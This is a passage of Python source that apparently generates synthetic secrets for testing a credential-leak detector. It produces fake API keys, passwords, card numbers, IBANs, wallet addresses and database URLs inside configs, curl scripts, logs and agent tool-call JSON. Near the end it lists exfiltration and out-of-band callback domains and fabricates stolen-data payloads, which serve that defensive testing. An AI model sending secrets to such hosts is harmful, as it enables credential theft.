     [lambda e: 'https://slack.com/api/chat.postMessage?token=%s&channel=C0%s&text=deploy%%20done' % (e, rs(UPC + DIG, 9))], True),
    ('slack-webhook-url', 5, lambda: 'https://hooks.slack.com/services/T0%s/B0%s/%s' % (rs(UPC + DIG, 9), rs(UPC + DIG, 9), rs(ALNUM, 24)),
     ['SLACK_WEBHOOK_URL', 'ALERT_WEBHOOK'], None, None, True),
    ('discord-bot-token', 4, g_discord_bot, ['DISCORD_TOKEN', 'DISCORD_BOT_TOKEN'], [_hdr('Authorization', 'Bot %s')], None, True),
    ('discord-webhook-url', 4, lambda: 'https://discord.com/api/webhooks/%s/%s' % (rs(DIG, 19), rs(B64U, 68)), ['DISCORD_WEBHOOK'], None, None, True),
    ('telegram-bot-token', 4, lambda: '%d:AA%s' % (ri(10 ** 8, 10 ** 10 - 1), rs(B64U, 33)), ['TELEGRAM_BOT_TOKEN', 'TG_TOKEN'], None,
     [lambda e: 'https://api.telegram.org/bot%s/sendMessage?chat_id=%d&text=build%%20ok' % (e.replace('%3A', ':'), ri(10 ** 8, 10 ** 9))], True),
    ('stripe-secret-key', 7, lambda: ch(['sk_live_', 'sk_live_', 'sk_test_']) + ch(['51', '4e']) + rs(ALNUM, ch([22, 97])), ['STRIPE_SECRET_KEY', 'STRIPE_API_KEY'],
     [_hdr('Authorization', 'Bearer %s')], None, True),
    ('stripe-restricted-key', 3, lambda: 'rk_live_51' + rs(ALNUM, 97), ['STRIPE_RESTRICTED_KEY'], None, None, True),
    ('stripe-webhook-secret', 3, lambda: 'whsec_' + rs(ALNUM, 32), ['STRIPE_WEBHOOK_SECRET'], None, None, True),
    ('openai-api-key', 7, g_openai, ['OPENAI_API_KEY'], [_hdr('Authorization', 'Bearer %s')], None, True),
    ('anthropic-api-key', 5, lambda: ch(['sk-ant-api03-', 'sk-ant-api03-', 'sk-ant-admin01-']) + rs(B64U, 93) + 'AA', ['ANTHROPIC_API_KEY', 'CLAUDE_API_KEY'],
     [_hdr('x-api-key')], None, True),
    ('google-api-key', 7, lambda: 'AIza' + rs(B64U, 35), ['GOOGLE_API_KEY', 'FIREBASE_API_KEY', 'MAPS_API_KEY'], [_hdr('X-Goog-Api-Key')],
     [lambda e: 'https://maps.googleapis.com/maps/api/geocode/json?address=Berlin&key=%s' % e,
      lambda e: 'https://generativelanguage.googleapis.com/v1beta/models/gemini-1.5-flash:generateContent?key=%s' % e], True),
    ('gcp-oauth-client-secret', 4, lambda: 'GOCSPX-' + rs(B64U, 28), ['GOOGLE_CLIENT_SECRET', 'OAUTH_CLIENT_SECRET'], None, None, True),
    ('google-oauth-token', 4, lambda: ch(['ya29.a0A' + rs(B64U, 170), '1//0' + ch('456ef') + rs(B64U, 98)]), ['GOOGLE_ACCESS_TOKEN', 'GOOGLE_REFRESH_TOKEN'],
     [_hdr('Authorization', 'Bearer %s')], None, True),
    ('azure-ad-client-secret', 4, lambda: rs(ALNUM, 3) + '8Q~' + rs(ALNUM + '~._-', 34), ['AZURE_CLIENT_SECRET', 'ARM_CLIENT_SECRET'], None, None, False),
    ('npm-token', 5, lambda: 'npm_' + rs(ALNUM, 36), ['NPM_TOKEN', 'NODE_AUTH_TOKEN'], [_hdr('Authorization', 'Bearer %s')], None, True),
    ('pypi-token', 4, lambda: 'pypi-AgEIcHlwaS5vcmc' + rs(B64U, ri(120, 160)), ['PYPI_TOKEN', 'TWINE_PASSWORD'], None, None, True),
    ('rubygems-api-key', 3, lambda: 'rubygems_' + rs(HEXC, 48), ['GEM_HOST_API_KEY'], None, None, True),
    ('dockerhub-pat', 3, lambda: 'dckr_pat_' + rs(B64U, 27), ['DOCKERHUB_TOKEN', 'DOCKER_PASSWORD'], None, None, True),
    ('newrelic-api-key', 3, lambda: 'NRAK-' + rs(UPC + DIG, 27), ['NEW_RELIC_API_KEY'], [_hdr('Api-Key')], None, True),
    ('sentry-auth-token', 3, lambda: 'sntryu_' + rs(HEXC, 64), ['SENTRY_AUTH_TOKEN'], [_hdr('Authorization', 'Bearer %s')], None, True),
    ('grafana-service-account-token', 3, lambda: 'glsa_' + rs(ALNUM, 32) + '_' + rs(HEXC, 8), ['GRAFANA_TOKEN'], [_hdr('Authorization', 'Bearer %s')], None, True),
    ('sendgrid-api-key', 5, lambda: 'SG.' + rs(B64U, 22) + '.' + rs(B64U, 43), ['SENDGRID_API_KEY', 'SMTP_PASSWORD'], [_hdr('Authorization', 'Bearer %s')], None, True),
    ('mailgun-api-key', 3, lambda: 'key-' + rs(HEXC, 32), ['MAILGUN_API_KEY'], None, None, True),
    ('mailchimp-api-key', 4, lambda: rs(HEXC, 32) + '-us' + str(ri(1, 21)), ['MAILCHIMP_API_KEY', 'MC_API_KEY'], [_hdr('Authorization', 'apikey %s')], None, True),
    ('brevo-api-key', 3, lambda: 'xkeysib-' + rs(HEXC, 64) + '-' + rs(ALNUM, 16), ['BREVO_API_KEY', 'SENDINBLUE_API_KEY'], [_hdr('api-key')], None, True),
    ('planetscale-password', 3, lambda: 'pscale_pw_' + rs(B64U, 43), ['DATABASE_PASSWORD', 'PLANETSCALE_PASSWORD'], None, None, True),
    ('supabase-access-token', 3, lambda: 'sbp_' + rs(HEXC, 40), ['SUPABASE_ACCESS_TOKEN'], [_hdr('Authorization', 'Bearer %s')], None, True),
    ('hashicorp-vault-token', 4, lambda: 'hvs.' + rs(B64U, 90), ['VAULT_TOKEN'], [_hdr('X-Vault-Token')], None, True),
    ('doppler-token', 3, lambda: ch(['dp.st.prd.', 'dp.st.dev.', 'dp.pt.']) + rs(ALNUM, 43), ['DOPPLER_TOKEN'], None, None, True),
    ('onepassword-service-account-token', 3, lambda: 'ops_eyJ' + rs(B64U, 240), ['OP_SERVICE_ACCOUNT_TOKEN'], None, None, True),
    ('huggingface-token', 4, lambda: 'hf_' + rs(ALPHA, 34), ['HF_TOKEN', 'HUGGINGFACE_HUB_TOKEN'], [_hdr('Authorization', 'Bearer %s')], None, True),
    ('replicate-api-token', 3, lambda: 'r8_' + rs(ALNUM, 37), ['REPLICATE_API_TOKEN'], [_hdr('Authorization', 'Token %s')], None, True),
    ('groq-api-key', 3, lambda: 'gsk_' + rs(ALNUM, 52), ['GROQ_API_KEY'], [_hdr('Authorization', 'Bearer %s')], None, True),
    ('shopify-access-token', 3, lambda: ch(['shpat_', 'shpss_']) + rs(HEXC, 32), ['SHOPIFY_ACCESS_TOKEN'], [_hdr('X-Shopify-Access-Token')], None, True),
    ('digitalocean-token', 3, lambda: 'dop_v1_' + rs(HEXC, 64), ['DIGITALOCEAN_TOKEN', 'DO_API_TOKEN'], [_hdr('Authorization', 'Bearer %s')], None, True),
    ('linear-api-key', 3, lambda: 'lin_api_' + rs(ALNUM, 40), ['LINEAR_API_KEY'], [_hdr('Authorization')], None, True),
    ('notion-token', 3, lambda: ch(['ntn_' + rs(DIG, 11) + rs(ALNUM, 35), 'secret_' + rs(ALNUM, 43)]), ['NOTION_TOKEN', 'NOTION_API_KEY'],
     [_hdr('Authorization', 'Bearer %s')], None, True),
    ('mapbox-secret-token', 3, lambda: 'sk.' + b64ue(json.dumps({'u': ch(PEOPLE) + str(ri(1, 99)), 'a': rs(LOW + DIG, 25)}, separators=(',', ':'))) + '.' + rs(B64U, 22),
     ['MAPBOX_SECRET_TOKEN'], None, None, True),
    ('square-access-token', 3, lambda: ch(['EAAA' + rs(B64U, 60), 'sq0csp-' + rs(B64U, 43)]), ['SQUARE_ACCESS_TOKEN'], [_hdr('Authorization', 'Bearer %s')], None, True),
    ('databricks-token', 3, lambda: 'dapi' + rs(HEXC, 32), ['DATABRICKS_TOKEN'], [_hdr('Authorization', 'Bearer %s')], None, True),
    ('pulumi-access-token', 3, lambda: 'pul-' + rs(HEXC, 40), ['PULUMI_ACCESS_TOKEN'], None, None, True),
    ('terraform-cloud-token', 3, lambda: rs(ALNUM, 14) + '.atlasv1.' + rs(ALNUM, 67), ['TFE_TOKEN', 'TF_TOKEN_app_terraform_io'], [_hdr('Authorization', 'Bearer %s')], None, False),
    ('postman-api-key', 3, lambda: 'PMAK-' + rs(HEXC, 24) + '-' + rs(HEXC, 34), ['POSTMAN_API_KEY'], [_hdr('X-Api-Key')], None, True),
]


def mk_vendor(spec):
    cls, _, gen, names, hdr, url, prose = spec
    v = gen()
    c = place(ch(names), v, hdr, url, prose)
    c['secret'] = v
    return c


AWS_EX_AKID, AWS_EX_SECRET = 'AKIAIOSFODNN7EXAMPLE', 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'


def p_aws_secret(i):
    v = AWS_EX_SECRET if i == 0 else rs(B64C, 40)
    akid = AWS_EX_AKID if i == 0 else 'AKIA' + rs(UPC + '234567', 16)
    k = i % 5
    if k == 0:
        t = '[default]\naws_access_key_id = %s\naws_secret_access_key = %s\nregion = %s\n' % (akid, v, ch(['eu-west-1', 'us-east-1']))
        fn, ct = '.aws/credentials', 'text/plain'
    elif k == 1:
        t = 'User name,Password,Access key ID,Secret access key,Console login link\n%s-ci,,%s,%s,https://%s.signin.aws.amazon.com/console\n' % (
            ch(WORDS), akid, v, rs(DIG, 12))
        fn, ct = 'credentials.csv', 'text/csv'
    elif k == 2:
        t = json.dumps({'AccessKey': {'UserName': ch(WORDS) + '-deployer', 'AccessKeyId': akid, 'Status': 'Active',
                                      'SecretAccessKey': v, 'CreateDate': iso_ts()}}, indent=4)
        fn, ct = 'create-access-key.json', 'application/json'
    else:
        return body_case(ch(['AWS_SECRET_ACCESS_KEY', 'SECRET_ACCESS_KEY', 'AWS_SECRET_KEY']), v), v
    ct2, text, l2 = carrier(fn, ct, t)
    return outer(ct2, text, l2), v


def p_datadog(i):
    v = rs(HEXC, ch([32, 32, 40]))
    k = i % 4
    if k == 0:
        return hdr_case(ch(['DD-API-KEY', 'DD-APPLICATION-KEY']), v), v
    if k == 1:
        return url_case(lambda e: 'https://http-intake.logs.datadoghq.%s/api/v2/logs?dd-api-key=%s&ddsource=%s' % (ch(['com', 'eu']), e, ch(WORDS)), v), v
    if k == 2:
        t = 'api_key: %s\nsite: datadoghq.%s\nlogs_enabled: true\napm_config:\n  enabled: true\n' % (v, ch(['com', 'eu']))
        ct2, text, l2 = carrier('datadog.yaml', 'application/yaml', t)
        return outer(ct2, text, l2), v
    return body_case(ch(['DD_API_KEY', 'DATADOG_API_KEY', 'DD_APP_KEY']), v), v


UNPREF = [
    (lambda: rs(HEXC, 32), ['ALGOLIA_ADMIN_API_KEY'], [_hdr('X-Algolia-API-Key')],
     [lambda e: 'https://%s-dsn.algolia.net/1/indexes/products/query?x-algolia-api-key=%s&x-algolia-application-id=%s' % ('A' + rs(UPC + DIG, 9), e, 'A' + rs(UPC + DIG, 9))]),
    (lambda: rs(B64U, 40), ['CLOUDFLARE_API_TOKEN', 'CF_API_TOKEN'], [_hdr('Authorization', 'Bearer %s')], None),
    (lambda: rs(HEXC, 37), ['CLOUDFLARE_API_KEY'], [_hdr('X-Auth-Key')], None),
    (uuid4, ['HEROKU_API_KEY'], [_hdr('Authorization', 'Bearer %s')], None),
    (lambda: rs(HEXC, 40), ['CIRCLECI_TOKEN', 'CIRCLE_TOKEN'], [_hdr('Circle-Token')], None),
    (lambda: '00' + rs(B64U, 40), ['OKTA_API_TOKEN'], [_hdr('Authorization', 'SSWS %s')], None),
    (lambda: rs(ALNUM + '_-', 20), ['PAGERDUTY_API_KEY'], [_hdr('Authorization', 'Token token=%s')], None),
    (lambda: rs(HEXC, 32), ['OWM_API_KEY'], None, [lambda e: 'https://api.openweathermap.org/data/2.5/weather?q=London&appid=%s&units=metric' % e]),
    (lambda: rs(B64U, 32), ['FASTLY_API_TOKEN'], [_hdr('Fastly-Key')], None),
    (lambda: rs(ALNUM, 24), ['VERCEL_TOKEN'], [_hdr('Authorization', 'Bearer %s')], None),
]


def p_unprefixed(i):
    gen, names, hdr, url = UNPREF[i % len(UNPREF)]
    v = gen()
    return place(ch(names), v, hdr, url, False), v


def p_twilio(i):
    sid, v = 'AC' + rs(HEXC, 32), rs(HEXC, 32)
    k = i % 4
    if k == 0:
        return hdr_case('Authorization', 'Basic ' + b64e('%s:%s' % (sid, v)), ['b64tok']), v
    if k == 1:
        t = 'curl -X POST https://api.twilio.com/2010-04-01/Accounts/%s/Messages.json \\\n  --data-urlencode "To=+1415555%04d" \\\n  -u %s:%s\n' % (sid, ri(0, 9999), sid, v)
        ct2, text, l2 = carrier('send.sh', 'text/x-shellscript', t)
        return outer(ct2, text, l2), v
    t = 'TWILIO_ACCOUNT_SID=%s\nTWILIO_AUTH_TOKEN=%s\nTWILIO_FROM=+1415555%04d\n' % (sid, v, ri(0, 9999))
    ct2, text, l2 = carrier('.env', 'text/plain', t)
    return outer(ct2, text, l2), v


def p_jwt(i):
    alg = ch(['HS256', 'RS256', 'ES256'])
    hd = {'alg': alg, 'typ': 'JWT'}
    if alg != 'HS256':
        hd['kid'] = rs(B64U, 16)
    now = ri(1700000000, 1730000000)
    pl = {'sub': ch([uuid4(), 'user_%d' % ri(1000, 99999)]), 'iat': now, 'exp': now + ch([900, 3600, 86400 * 30]),
          'iss': 'https://' + ch(['auth.', 'login.', 'id.']) + ch(ORGS) + '.com', 'scope': ch(['read write', 'admin', 'openid profile'])}
    if i == 0:
        pl = {'iss': 'supabase', 'ref': rs(LOW, 20), 'role': 'service_role', 'iat': now, 'exp': now + 10 ** 8}
    si = (b64ue(json.dumps(hd, separators=(',', ':'))) + '.' + b64ue(json.dumps(pl, separators=(',', ':'))))
    sig = hmac.new(rbytes(32), si.encode(), hashlib.sha256).digest() if alg == 'HS256' else rbytes(256 if alg == 'RS256' else 64)
    v = si + '.' + b64ue(sig)
    k = i % 5
    if k == 0:
        return body_case(ch(['SUPABASE_SERVICE_ROLE_KEY', 'SERVICE_JWT', 'ID_TOKEN']), v), v
    if k == 1:
        return hdr_case(ch(['Authorization', 'Authorization']), 'Bearer ' + v), v
    if k == 2:
        return hdr_case('Cookie', '%s=%s; theme=dark; lang=en' % (ch(['session', 'access_token', 'auth']), v)), v
    if k == 3:
        return url_case(lambda e: 'https://%s/callback?id_token=%s&state=%s' % (host(), e, rs(ALNUM, 12)), v), v
    d = {'jsonrpc': '2.0', 'id': ri(1, 99), 'method': 'tools/call', 'params': {'name': 'http_request', 'arguments': {
        'method': 'GET', 'url': 'https://%s/v1/me' % host(), 'headers': {'Authorization': 'Bearer ' + v}}}}
    return outer('application/json', json.dumps(d), []), v


def opaque_token():
    return ch([rs(ALNUM, 40), rs(B64U, 43), rs(HEXC, 64), rs(ALNUM + '-._~', 48), rs(ALNUM, 32)])


def p_bearer(i):
    v = opaque_token()
    k = i % 6
    h = host()
    if k in (0, 1):
        return hdr_case(ch(['Authorization', 'Proxy-Authorization']) if k else 'Authorization', 'Bearer ' + v), v
    if k == 2:
        t = 'curl -sS https://%s/v2/%s -H "Authorization: Bearer %s" -H "Accept: application/json"' % (h, ch(WORDS), v)
        d = {'jsonrpc': '2.0', 'id': ri(1, 99), 'method': 'tools/call', 'params': {'name': 'bash', 'arguments': {'command': t}}}
        return outer('application/json', json.dumps(d), []), v
    if k == 3:
        d = {'jsonrpc': '2.0', 'id': ri(1, 99), 'method': 'tools/call', 'params': {'name': 'fetch', 'arguments': {
            'url': 'https://%s/api/%s' % (h, ch(WORDS)), 'headers': {'Authorization': 'Bearer ' + v, 'Accept': 'application/json'}}}}
        return outer('application/json', json.dumps(d), []), v
    if k == 4:
        t = 'import requests\nr = requests.get("https://%s/v1/%s", headers={"Authorization": "Bearer %s"})\nprint(r.json())\n' % (h, ch(WORDS), v)
        ct2, text, l2 = carrier('probe.py', 'text/x-python', t)
        return outer(ct2, text, l2), v
    t = '%s DEBUG http.client send: b\'GET /v1/%s HTTP/1.1\\r\\nHost: %s\\r\\nAuthorization: Bearer %s\\r\\n\\r\\n\'\n' % (iso_ts(), ch(WORDS), h, v)
    ct2, text, l2 = carrier('debug.log', 'text/plain', t)
    return outer(ct2, text, l2), v


def password():
    while True:
        p = ch(ALPHA) + rs(ALNUM + '!#%^*-_+=.?@~', ri(11, 21))
        if any(c in UPC for c in p) and any(c in LOW for c in p) and any(c in DIG for c in p) and any(c in '!#%^*-_+=.?@~' for c in p):
            return p


def dbpw():
    while True:
        p = ch(ALPHA) + rs(ALNUM + '-_.', ri(15, 27))
        if any(c in DIG for c in p) and any(c in UPC for c in p):
            return p


def p_basic(i):
    user = ch(PEOPLE + ['admin', 'deploy', 'ci-bot', 'svc-%s' % ch(WORDS)])
    pw = password() if R.random() < 0.6 else dbpw()
    v = '%s:%s' % (user, pw)
    k = i % 5
    if k in (0, 1):
        return hdr_case(ch(['Authorization', 'Proxy-Authorization']), 'Basic ' + b64e(v), ['b64tok']), v
    if k == 2:
        reg = ch(['ghcr.io', 'registry.gitlab.com', '%s.dkr.ecr.eu-west-1.amazonaws.com' % rs(DIG, 12), 'docker.%s.io' % ch(ORGS)])
        t = json.dumps({'auths': {reg: {'auth': b64e(v)}}, 'credsStore': ''}, indent=2)
        ct2, text, l2 = carrier('.docker/config.json', 'application/json', t)
        return outer(ct2, text, l2 + ['b64tok']), v
    if k == 3:
        d = {'jsonrpc': '2.0', 'id': ri(1, 99), 'method': 'tools/call', 'params': {'name': 'http_request', 'arguments': {
            'url': 'https://%s/api/%s' % (host(), ch(WORDS)), 'headers': {'Authorization': 'Basic ' + b64e(v)}}}}
        return outer('application/json', json.dumps(d), ['b64tok']), v
    t = 'curl -u %s https://%s/api/v1/%s\n' % (v, host(), ch(WORDS))
    ct2, text, l2 = carrier('run.sh', 'text/x-shellscript', t)
    return outer(ct2, text, l2), v


def p_dburl(i):
    pw = dbpw()
    u = ch(['app', 'admin', 'postgres', 'svc_%s' % ch(WORDS), 'root'])
    k = i % 7
    h = ch(['db.%s.internal' % ch(ORGS), 'prod-%s.cluster-%s.eu-west-1.rds.amazonaws.com' % (ch(WORDS), rs(LOW + DIG, 12)), '10.0.%d.%d' % (ri(0, 9), ri(2, 250))])
    url = [lambda: 'postgresql://%s:%s@%s:5432/%s?sslmode=require' % (u, pw, h, ch(WORDS)),
           lambda: 'mysql://%s:%s@%s:3306/%s' % (u, pw, h, ch(WORDS)),
           lambda: 'mongodb+srv://%s:%s@cluster0.%s.mongodb.net/%s?retryWrites=true&w=majority' % (u, pw, rs(LOW + DIG, 5), ch(WORDS)),
           lambda: 'redis://default:%s@%s:6379/0' % (pw, h),
           lambda: 'amqps://%s:%s@%s:5671/%%2F' % (u, pw, h),
           lambda: 'jdbc:postgresql://%s:5432/%s?user=%s&password=%s' % (h, ch(WORDS), u, pw),
           lambda: 'postgres://%s:%s@%s/%s' % (u, pw, h, ch(WORDS))][k]()
    j = i % 4
    if j == 3:
        t = 'sqlalchemy.exc.OperationalError: (psycopg2.OperationalError) connection to server failed\n(Background on this error at: https://sqlalche.me/e/20/e3q8)\nengine url: %s\n' % url
        ct2, text, l2 = carrier('error.txt', 'text/plain', t)
        return outer(ct2, text, l2), pw
    if i == 9:
        return url_case(lambda e: 'https://%s/api/connections/test?dsn=%s' % (host(), e), url), pw
    return body_case(ch(['DATABASE_URL', 'MONGO_URI', 'REDIS_URL', 'DB_DSN']), url), pw


def p_userinfo(i):
    pw = dbpw()
    u = ch(PEOPLE + ['deploy', 'ci', 'backup'])
    k = i % 5
    if k in (0, 1, 2):
        t = ch([lambda: 'https://%s:%s@%s/v2/%s/manifests/latest' % (u, pw, ch(['registry.%s.io' % ch(ORGS), 'artifacts.%s.com' % ch(ORGS)]), ch(WORDS)),
                lambda: 'https://%s:%s@%s/repository/maven-releases/com/%s/%s/1.0/%s-1.0.pom' % (u, pw, host(), ch(ORGS).replace('-', ''), ch(WORDS), ch(WORDS)),
                lambda: 'http://%s:%s@%s:8080/job/%s/build?delay=0sec' % (u, pw, 'jenkins.%s.internal' % ch(ORGS), ch(WORDS))])()
        return {'where': 'url', 'text': t, 'layers': []}, pw
    if k == 3:
        t = '[remote "origin"]\n\turl = https://%s:%s@git.%s.com/%s/%s.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n' % (u, pw, ch(ORGS), org(), repo())
        ct2, text, l2 = carrier('.git/config', 'text/plain', t)
        return outer(ct2, text, l2), pw
    return body_case(ch(['HTTPS_PROXY', 'PIP_INDEX_URL', 'NPM_REGISTRY']), ch([
        'http://%s:%s@proxy.%s.internal:3128' % (u, pw, ch(ORGS)), 'https://%s:%s@pypi.%s.com/simple/' % (u, pw, ch(ORGS))])), pw


GEN_KEY_NAMES = ['API_KEY', 'X_API_KEY', 'SERVICE_API_KEY', 'API_TOKEN', 'ACCESS_TOKEN', 'CLIENT_SECRET', 'APP_SECRET',
                 'AUTH_TOKEN', 'SECRET_KEY', 'INTEGRATION_KEY', 'PARTNER_API_KEY', 'WEBHOOK_SECRET']


def p_generic_key(i):
    v = opaque_token()
    n = GEN_KEY_NAMES[i % len(GEN_KEY_NAMES)]
    k = i % 4
    if k == 0:
        return hdr_case(ch(['X-API-Key', 'X-Api-Token', 'X-Auth-Token', 'Api-Key']), v), v
    if k == 1:
        return url_case(lambda e: 'https://%s/v1/%s?%s=%s&limit=%d' % (host(), ch(WORDS), ch(['api_key', 'apikey', 'access_token', 'token']), e, ri(10, 100)), v), v
    return body_case(n, v), v


PW_NAMES = ['PASSWORD', 'DB_PASSWORD', 'ADMIN_PASSWORD', 'SMTP_PASSWORD', 'POSTGRES_PASSWORD', 'MYSQL_ROOT_PASSWORD',
            'KEYSTORE_PASSWORD', 'LDAP_BIND_PASSWORD', 'REDIS_PASSWORD', 'RABBITMQ_DEFAULT_PASS', 'PASSWD', 'ROOT_PASSWORD']


def p_password(i):
    v = password()
    n = PW_NAMES[i % len(PW_NAMES)]
    k = i % 6
    if k == 0:
        t = 'username=%s&password=%s&remember_me=on' % (quote_plus(email()), quote_plus(v))
        return {'where': 'body', 'content_type': 'application/x-www-form-urlencoded', 'text': t, 'layers': ['form']}, v
    if k == 1:
        return url_case(lambda e: 'https://%s/login?user=%s&password=%s' % (host(), ch(PEOPLE), e), v), v
    if k == 2:
        d = {'query': 'mutation Login($email: String!, $password: String!) { login(email: $email, password: $password) { token } }',
             'variables': {'email': email(), 'password': v}}
        return outer('application/json', json.dumps(d), []), v
    return body_case(n, v), v


CARD_BRANDS = [('4', 16), ('51', 16), ('55', 16), ('2221', 16), ('34', 15), ('37', 15), ('6011', 16), ('3528', 16), ('36', 14), ('62', 16), ('4', 19)]
TEST_CARDS = ['4242424242424242', '4111111111111111', '5555555555554444', '378282246310005', '6011111111111117']


def fmt_card(d, sep):
    if not sep:
        return d
    if len(d) == 15:
        return sep.join([d[:4], d[4:10], d[10:]])
    return sep.join(d[i:i + 4] for i in range(0, len(d), 4))


def p_card(i):
    d = TEST_CARDS[i] if i < len(TEST_CARDS) and i % 2 == 0 else luhn_make(*ch(CARD_BRANDS))
    sep = ch(['', '', ' ', '-'])
    f = fmt_card(d, sep)
    layers = ['nosep'] if sep else []
    exp = '%02d/%02d' % (ri(1, 12), ri(25, 31))
    cvc = rs(DIG, 4 if len(d) == 15 else 3)
    name = '%s %s' % (ch(PEOPLE).title(), ch(['Miller', 'Schmidt', 'Garcia', 'Rossi', 'Dubois', 'Tanaka']))
    k = i % 7
    if k == 0:
        t = 'name,card_number,exp,cvv,zip\n%s,%s,%s,%s,%05d\n' % (name, f, exp, cvc, ri(10000, 99999))
        ct2, text, l2 = carrier('customers.csv', 'text/csv', t)
        return outer(ct2, text, l2 + layers), d
    if k == 1:
        c = {'amount': ri(100, 99999), 'currency': ch(['usd', 'eur']), 'payment_method': {'card': {'number': f, 'exp_month': int(exp[:2]), 'exp_year': 2000 + int(exp[3:]), 'cvc': cvc}}}
        return outer('application/json', json.dumps(c), layers), d
    if k == 2:
        t = 'card[number]=%s&card[exp_month]=%s&card[exp_year]=20%s&card[cvc]=%s' % (quote_plus(f), exp[:2], exp[3:], cvc)
        return {'where': 'body', 'content_type': 'application/x-www-form-urlencoded', 'text': t, 'layers': ['form'] + layers}, d
    if k == 3:
        m = 'Please book the flight for me, use my card %s exp %s, CVC %s, name %s.' % (f, exp, cvc, name)
        dd = {'model': ch(OAI_MODELS), 'messages': [{'role': 'user', 'content': m}]}
        return outer('application/json', json.dumps(dd), layers), d
    if k == 4:
        t = "INSERT INTO payments (customer, pan, expiry) VALUES ('%s', '%s', '%s');\n" % (name, f, exp)
        ct2, text, l2 = carrier('backfill.sql', 'application/sql', t)
        return outer(ct2, text, l2 + layers), d
    if k == 5:
        c = url_case(lambda e: 'https://%s/checkout/confirm?cc=%s&exp=%s' % (host(), e, quote(exp, safe='')), f)
        c['layers'] += layers
        return c, d
    t = '%s WARN payment-svc declined txn=%d pan=%s reason=insufficient_funds\n' % (iso_ts(), ri(10 ** 6, 10 ** 7), f)
    ct2, text, l2 = carrier('payments.log', 'text/plain', t)
    return outer(ct2, text, l2 + layers), d


def p_iban(i):
    v = ['DE89370400440532013000', 'GB82WEST12345698765432'][i] if i < 2 else iban_make(ch(sorted(IBAN_SPEC)))
    grouped = R.random() < 0.4
    f = ' '.join(v[j:j + 4] for j in range(0, len(v), 4)) if grouped else v
    layers = ['nosep'] if grouped else []
    name = '%s %s' % (ch(PEOPLE).title(), ch(['Muller', 'Schmidt', 'Garcia', 'Rossi', 'Dubois', 'Jansen']))
    k = i % 5
    if k == 0:
        t = ('<?xml version="1.0" encoding="UTF-8"?>\n<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.03"><CstmrCdtTrfInitn>'
             '<CdtTrfTxInf><Amt><InstdAmt Ccy="EUR">%d.00</InstdAmt></Amt><Cdtr><Nm>%s</Nm></Cdtr><CdtrAcct><Id><IBAN>%s</IBAN></Id></CdtrAcct>'
             '</CdtTrfTxInf></CstmrCdtTrfInitn></Document>\n') % (ri(10, 9000), name, v)
        ct2, text, l2 = carrier('sepa.xml', 'application/xml', t)
        return outer(ct2, text, l2), v
    if k == 1:
        d = {'beneficiary': {'name': name, 'iban': f, 'bic': ch(['DEUTDEFF', 'COBADEFFXXX', 'INGBNL2A'])}, 'amount': {'value': '%d.%02d' % (ri(1, 5000), ri(0, 99)), 'currency': 'EUR'}}
        return outer('application/json', json.dumps(d), layers), v
    if k == 2:
        t = 'payee,iban,amount,reference\n%s,%s,%d.00,INV-%d\n' % (name, f, ri(10, 5000), ri(1000, 9999))
        ct2, text, l2 = carrier('payouts.csv', 'text/csv', t)
        return outer(ct2, text, l2 + layers), v
    if k == 3:
        d = {'channel': 'C0' + rs(UPC + DIG, 9), 'text': 'Bitte ueberweise die Rechnung an %s, IBAN %s. Danke!' % (name, f)}
        return outer('application/json', json.dumps(d), layers), v
    t = 'account_holder=%s&iban=%s&amount=%d' % (quote_plus(name), quote_plus(f), ri(10, 999))
    return {'where': 'body', 'content_type': 'application/x-www-form-urlencoded', 'text': t, 'layers': ['form'] + layers}, v


def btc_addr():
    k = ri(0, 3)
    if k == 0:
        p = bytes([ch([0, 5])]) + rbytes(20)
        return b58enc(p + dsha(p)[:4])
    if k == 1:
        return segwit_encode('bc', 0, rbytes(20))
    if k == 2:
        return segwit_encode('bc', 0, rbytes(32))
    return segwit_encode('bc', 1, rbytes(32))


def p_btc(i):
    v = btc_addr()
    k = i % 5
    if k == 0:
        d = {'model': ch(ANT_MODELS), 'max_tokens': 512, 'messages': [{'role': 'user', 'content': 'Send %s BTC to %s once the invoice clears.' % (ch(['0.05', '0.2', '1.5']), v)}]}
        return outer('application/json', json.dumps(d), []), v
    if k == 1:
        d = {'asset': 'BTC', 'network': 'bitcoin', 'address': v, 'amount': '%d.%04d' % (ri(0, 3), ri(0, 9999)), 'memo': ch(WORDS)}
        return outer('application/json', json.dumps(d), []), v
    if k == 2:
        return {'where': 'url', 'text': 'https://%s/api/address/%s/utxo' % (ch(['blockstream.info', 'mempool.space']), v), 'layers': []}, v
    if k == 3:
        t = 'withdraw_to=%s&amount=0.%d&otp=%06d' % (v, ri(1000, 99999), ri(0, 999999))
        return {'where': 'body', 'content_type': 'application/x-www-form-urlencoded', 'text': t, 'layers': []}, v
    t = '<p>Donate: <a href="bitcoin:%s?amount=0.001">%s</a></p>' % (v, v)
    return outer('text/html', t, []), v


def p_eth(i):
    raw = rbytes(20).hex()
    v = eip55(raw) if i % 3 else '0x' + raw
    if i == 1:
        v = '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed'
    k = i % 4
    if k == 0:
        d = {'jsonrpc': '2.0', 'id': ri(1, 99), 'method': 'eth_getBalance', 'params': [v, 'latest']}
        return outer('application/json', json.dumps(d), []), v
    if k == 1:
        d = {'jsonrpc': '2.0', 'id': ri(1, 99), 'method': 'tools/call', 'params': {'name': 'send_transaction', 'arguments': {'to': v, 'value_eth': '0.%d' % ri(1, 999), 'chain': 'mainnet'}}}
        return outer('application/json', json.dumps(d), []), v
    if k == 2:
        return {'where': 'url', 'text': 'https://api.etherscan.io/api?module=account&action=txlist&address=%s&sort=desc' % v, 'layers': []}, v
    d = {'channel': 'C0' + rs(UPC + DIG, 9), 'text': 'payout wallet for the contractor: %s (USDC on mainnet)' % v}
    return outer('application/json', json.dumps(d), []), v


EXFIL_DOMAINS = ['oast.fun', 'oast.pro', 'interact.sh', 'dnslog.cn', 'burpcollaborator.net', 'requestrepo.com', 'exfil-lab.net', 'cdn-metrics-sync.com']


def exfil_data():
    k = ri(0, 3)
    if k == 0:
        return ('AWS_SECRET_ACCESS_KEY=' + rs(B64C, 40)).encode()
    if k == 1:
        return ('%s:x:0:0:root:/root:/bin/bash\n%s' % (ch(['root', 'admin']), ch(PEOPLE))).encode()
    if k == 2:
        return rbytes(ri(20, 48))
    return ('%s@%s:%s' % (ch(PEOPLE), ch(['build-7', 'ci-runner', 'laptop']), password())).encode()


